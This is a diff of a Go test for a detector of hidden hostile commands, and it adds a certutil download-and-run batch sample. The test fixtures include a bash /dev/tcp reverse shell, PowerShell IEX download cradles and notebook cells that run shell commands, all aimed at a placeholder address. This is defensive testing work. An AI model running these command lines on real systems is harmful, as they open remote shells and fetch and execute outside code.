@@ -49,6 +49,7 @@ func TestDetector(t *testing.T) {
 	add("a shell for the network", "x.sh", []byte("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"), hidden)
 	add("PowerShell", "x.ps1", []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"), hidden)
 	add("PowerShell in a batch file", "x.bat", []byte("@echo off\npowershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')\r\n"), hidden)
+	add("a batch file", "x.bat", []byte("certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\nstart a.exe\r\n"), hidden)
 	add("a cell for the shell", "a.ipynb", notebook("!"+plain), hidden)
 	add("a cell of lines", "a.ipynb", notebook("1 + 1", []string{"import os\n", "%matplotlib inline\n", "os.system('" + plain + "')"}), hidden)
 	add("a cell of bash", "a.ipynb", notebook("%%bash\n"+plain), hidden)
